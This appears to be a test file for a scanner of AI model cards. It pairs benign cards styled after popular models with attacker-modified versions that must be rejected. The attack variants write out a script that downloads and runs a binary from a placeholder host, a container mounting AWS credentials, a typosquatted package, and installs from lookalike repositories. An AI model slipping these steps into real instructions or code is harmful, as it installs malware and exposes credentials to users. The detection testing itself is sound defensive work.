// Legitimate controls: model cards shaped like popular ones (their section structure, code forms and commands;
// the prose is ours), each with the verdict it should get, and the same cards with one instruction changed the
// way an attacker would, which must be rejected.
import { verdictOf } from '../../../src/core/findings.js';
import { runContentChecks } from '../../../src/checks/content/index.js';
import type { PublisherFacts } from '../../../src/checks/content/types.js';
import { notable, repoOf, summary } from './repo.js';

const FRONT = (extra = ''): string => `---\nlicense: apache-2.0\nlibrary_name: transformers\npipeline_tag: text-generation\n${extra}---\n`;

const LLAMA_LIKE = `${FRONT('extra_gated_prompt: Accept the license to continue.\n')}
## Model Information

A family of instruction-tuned text models in 8B and 70B sizes.

| Benchmark | 8B | 70B |
| --- | --- | --- |
| MMLU | 68.4 | 82.0 |

## How to use

### Use with transformers

Make sure to update your installation via \`pip install --upgrade transformers\`.

\`\`\`python
import transformers
import torch

model_id = "meta-llama/Llama-Example-8B-Instruct"
pipeline = transformers.pipeline("text-generation", model=model_id, model_kwargs={"torch_dtype": torch.bfloat16}, device_map="auto")
messages = [{"role": "user", "content": "Who are you?"}]
print(pipeline(messages, max_new_tokens=256)[0]["generated_text"][-1])
\`\`\`

### Use with the original codebase

To download the original checkpoints, use this command:

\`\`\`
huggingface-cli download meta-llama/Llama-Example-8B-Instruct --include "original/*" --local-dir Llama-Example-8B-Instruct
\`\`\`

### Serve with vLLM

\`\`\`bash
docker run --runtime nvidia --gpus all \\
    -v ~/.cache/huggingface:/root/.cache/huggingface \\
    --env "HUGGING_FACE_HUB_TOKEN=$HF_TOKEN" \\
    -p 8000:8000 --ipc=host \\
    vllm/vllm-openai:latest --model meta-llama/Llama-Example-8B-Instruct
\`\`\`
`;

const QWEN_LIKE = `${FRONT()}
# Qwen-Example-7B-Instruct

<a href="https://chat.example.invalid/" target="_blank"><img alt="Chat" src="https://img.shields.io/badge/chat-blue"/></a>

## Requirements

The code of Qwen has been in the latest Hugging face transformers and we advise you to use the latest version of transformers.
With \`transformers<4.37.0\`, you will encounter the following error:
\`\`\`
KeyError: 'qwen2'
\`\`\`

## Quickstart

\`\`\`python
from transformers import AutoModelForCausalLM, AutoTokenizer
model_name = "Qwen/Qwen-Example-7B-Instruct"
model = AutoModelForCausalLM.from_pretrained(model_name, torch_dtype="auto", device_map="auto")
tokenizer = AutoTokenizer.from_pretrained(model_name)
text = tokenizer.apply_chat_template([{"role": "user", "content": "Hi"}], tokenize=False, add_generation_prompt=True)
\`\`\`

### Processing Long Texts

For deployment, we recommend using vLLM:
\`\`\`bash
pip install "vllm>=0.4.3"
vllm serve Qwen/Qwen-Example-7B-Instruct --max-model-len 32768
\`\`\`
Then query it:
\`\`\`bash
curl http://localhost:8000/v1/chat/completions -H "Content-Type: application/json" -d '{"model": "Qwen/Qwen-Example-7B-Instruct", "messages": [{"role": "user", "content": "Hello"}]}'
\`\`\`

## Citation

\`\`\`
@article{qwen, title={Qwen Example Report}, year={2026}}
\`\`\`
`;

const ST_LIKE = `---
library_name: sentence-transformers
pipeline_tag: sentence-similarity
tags:
- feature-extraction
---

# all-Example-L6

This maps sentences & paragraphs to a 384 dimensional dense vector space.

## Usage (Sentence-Transformers)

Using this model becomes easy when you have [sentence-transformers](https://www.SBERT.net) installed:

\`\`\`
pip install -U sentence-transformers
\`\`\`

Then you can use the model like this:
\`\`\`python
from sentence_transformers import SentenceTransformer
sentences = ["This is an example sentence", "Each sentence is converted"]
model = SentenceTransformer('sentence-transformers/all-Example-L6')
embeddings = model.encode(sentences)
print(embeddings)
\`\`\`

## Usage (HuggingFace Transformers)

\`\`\`python
from transformers import AutoTokenizer, AutoModel
import torch
import torch.nn.functional as F

def mean_pooling(model_output, attention_mask):
    token_embeddings = model_output[0]
    mask = attention_mask.unsqueeze(-1).expand(token_embeddings.size()).float()
    return torch.sum(token_embeddings * mask, 1) / torch.clamp(mask.sum(1), min=1e-9)
\`\`\`

## Training procedure

We used the pretrained [\`nreimers/MiniLM-L6-H384-uncased\`](https://huggingface.co/nreimers/MiniLM-L6-H384-uncased) model.
`;

const GGUF_LIKE = `---
base_model: example/Example-7B
inference: false
model_creator: Example
quantized_by: TheBloke
---
<!-- header start -->
<div style="width: auto; margin-left: auto; margin-right: auto">
<img src="https://i.imgur.com/example.jpg" alt="banner" style="width: 100%;">
</div>
<!-- header end -->

# Example 7B - GGUF

## Provided files

| Name | Quant method | Bits | Size |
| ---- | ---- | ---- | ---- |
| [example-7b.Q4_K_M.gguf](https://huggingface.co/TheBloke/Example-7B-GGUF/blob/main/example-7b.Q4_K_M.gguf) | Q4_K_M | 4 | 4.37 GB |

## How to download GGUF files

### On the command line, including multiple files at once

I recommend using the \`huggingface-hub\` Python library:

\`\`\`shell
pip3 install huggingface-hub
\`\`\`

Then you can download any individual model file to the current directory, at high speed, with a command like this:

\`\`\`shell
huggingface-cli download TheBloke/Example-7B-GGUF example-7b.Q4_K_M.gguf --local-dir . --local-dir-use-symlinks False
\`\`\`

<details>
  <summary>More advanced huggingface-cli download usage</summary>

To accelerate downloads on fast connections (1Gbit/s or higher), install \`hf_transfer\`:

\`\`\`shell
pip3 install hf_transfer
\`\`\`

And set environment variable \`HF_HUB_ENABLE_HF_TRANSFER\` to \`1\`:

\`\`\`shell
HF_HUB_ENABLE_HF_TRANSFER=1 huggingface-cli download TheBloke/Example-7B-GGUF example-7b.Q4_K_M.gguf --local-dir . --local-dir-use-symlinks False
\`\`\`

Windows Command Line users: You can set the environment variable by running \`set HF_HUB_ENABLE_HF_TRANSFER=1\` before the download command.
</details>

## Example \`llama.cpp\` command

Make sure you are using \`llama.cpp\` from a recent commit.

\`\`\`shell
./main -ngl 35 -m example-7b.Q4_K_M.gguf --color -c 4096 --temp 0.7 --repeat_penalty 1.1 -n -1 -p "{prompt}"
\`\`\`

## How to run from Python code

### How to load this model in Python code, using llama-cpp-python

#### First install the package

\`\`\`shell
# Base ctransformers with no GPU acceleration
pip install llama-cpp-python
# With NVidia CUDA acceleration
CMAKE_ARGS="-DLLAMA_CUBLAS=on" pip install llama-cpp-python
# Or with Metal GPU acceleration for macOS systems only
CMAKE_ARGS="-DLLAMA_METAL=on" pip install llama-cpp-python

# In windows, to set the variables CMAKE_ARGS in PowerShell, follow this format; eg for NVidia CUDA:
$env:CMAKE_ARGS = "-DLLAMA_OPENBLAS=on"
pip install llama-cpp-python
\`\`\`

#### Simple llama-cpp-python example code

\`\`\`python
from llama_cpp import Llama
llm = Llama(model_path="./example-7b.Q4_K_M.gguf", n_ctx=4096, n_threads=8, n_gpu_layers=35)
output = llm("Q: name the planets A:", max_tokens=32, stop=["Q:"], echo=True)
\`\`\`
`;

const JINA_LIKE = `---
library_name: transformers
tags:
- sentence-transformers
---

<br><br>
<p align="center"><b>Embedding model trained by <a href="https://jina.ai/">Jina AI</a>.</b></p>

# jina-example-embeddings-v3

Code: [github.com/jina-ai/example-tools](https://github.com/jina-ai/example-tools)

## Quick Start

The easiest way to start is our API:

\`\`\`bash
curl https://api.jina.ai/v1/embeddings \\
  -H "Content-Type: application/json" \\
  -H "Authorization: Bearer $JINA_API_KEY" \\
  -d '{"input": ["Hello"], "model": "jina-example-embeddings-v3"}'
\`\`\`

## Usage

**<details><summary>Apply mean pooling when integrating the model.</summary>**
<p>

\`\`\`python
from transformers import AutoModel
model = AutoModel.from_pretrained("jinaai/jina-example-embeddings-v3", trust_remote_code=True)
embeddings = model.encode(["How is the weather today?"], task="text-matching")
\`\`\`
</p>
</details>

Install the optional kernels from our repository:

\`\`\`bash
pip install git+https://github.com/jina-ai/example-tools.git
\`\`\`

Using [sentence-transformers](https://github.com/UKPLab/sentence-transformers):

\`\`\`bash
!pip install -U sentence-transformers
\`\`\`

Transformers.js:

\`\`\`bash
npm i @xenova/transformers
\`\`\`
`;

const jina: PublisherFacts = { repo: 'jinaai/jina-example-embeddings-v3', namespace: 'jinaai', vouched: true };

const CONTROLS: [string, string, PublisherFacts | undefined][] = [
  ['Llama-shaped card', LLAMA_LIKE, { repo: 'meta-llama/Llama-Example-8B-Instruct', namespace: 'meta-llama', vouched: true }],
  ['Qwen-shaped card', QWEN_LIKE, { repo: 'Qwen/Qwen-Example-7B-Instruct', namespace: 'Qwen', vouched: true }],
  ['sentence-transformers-shaped card', ST_LIKE, undefined],
  ['TheBloke GGUF-shaped card', GGUF_LIKE, { repo: 'TheBloke/Example-7B-GGUF', namespace: 'TheBloke', vouched: false }],
  ['jina embeddings-shaped card (own API, own GitHub organisation)', JINA_LIKE, jina]
];

function review(card: string, publisher: PublisherFacts | undefined, extra: Record<string, string> = {}) {
  const repo = repoOf({ 'README.md': card, ...extra });
  return runContentChecks(publisher ? { ...repo, publisher } : repo);
}

describe('legitimate cards are approved', () => {
  test.each(CONTROLS)('%s', (_name, card, publisher) => {
    const found = review(card, publisher);
    expect(summary(notable(found))).toBe('');
    expect(verdictOf(found)).toBe('approved');
  });
});

test('the jina-shaped card from a publisher nobody vouches for needs review (API) and is rejected (git install)', () => {
  const found = review(JINA_LIKE, undefined);
  expect(notable(found).map((f) => `${f.check} ${f.severity}`).sort()).toEqual(['instructions.git-install high', 'instructions.network-send medium']);
});

// The same cards with one step changed the way the 2026 incident and its variants did.
const ATTACKS: [string, string, string, Record<string, string>, string, string][] = [
  ['Llama card, download then run', LLAMA_LIKE, 'huggingface-cli download meta-llama/Llama-Example-8B-Instruct --include "original/*" --local-dir Llama-Example-8B-Instruct',
    {}, 'huggingface-cli download tools-org/fast-runtime rt --local-dir . && chmod +x rt && ./rt --setup', 'instructions.run-binary'],
  ['Llama card, vLLM given the AWS folder by an unknown image', LLAMA_LIKE, '-p 8000:8000 --ipc=host \\\n    vllm/vllm-openai:latest', {}, '-p 8000:8000 -v ~/.aws:/root/.aws \\\n    vllm-community/vllm-openai:latest', 'instructions.container'],
  ['Qwen card, typosquatted pip install', QWEN_LIKE, 'pip install "vllm>=0.4.3"', {}, 'pip install "vlIm>=0.4.3"', 'instructions.typosquat'],
  ['sentence-transformers card, full-width colon quickstart', ST_LIKE, 'Then you can use the model like this:', { 'scripts/preprocess.py': 'import os,urllib.request,subprocess\nurllib.request.urlretrieve("https://cdn.x.invalid/rt","/tmp/rt")\nos.chmod("/tmp/rt",0o755)\nsubprocess.Popen(["/tmp/rt"])\n' },
    '首先运行：python scripts/preprocess.py --setup\n\nThen you can use the model like this:', 'instructions.run-repo-script'],
  ['GGUF card, llama.cpp from a clone of an unknown fork', GGUF_LIKE, 'Make sure you are using `llama.cpp` from a recent commit.', {},
    'Build it first:\n\n```shell\ngit clone https://github.com/llama-cpp-fast/llama.cpp && cd llama.cpp && make\n```', 'instructions.git-install'],
  ['jina card, own-org install replaced by a lookalike org', JINA_LIKE, 'pip install git+https://github.com/jina-ai/example-tools.git', {}, 'pip install git+https://github.com/jina-al/example-tools.git', 'instructions.git-install']
];

describe('the same cards, attacked, are rejected', () => {
  test.each(ATTACKS)('%s', (_name, card, from, extra, to, check) => {
    expect(card.includes(from)).toBe(true);
    // Published under the original's name: the publisher's trust does not excuse the changed step.
    const publisher = CONTROLS.find(([, c]) => c === card)?.[2];
    const found = review(card.replace(from, to), publisher, extra);
    expect(verdictOf(found)).toBe('rejected');
    expect(found.filter((f) => f.severity === 'critical' || f.severity === 'high').map((f) => f.check)).toContain(check);
  });
});
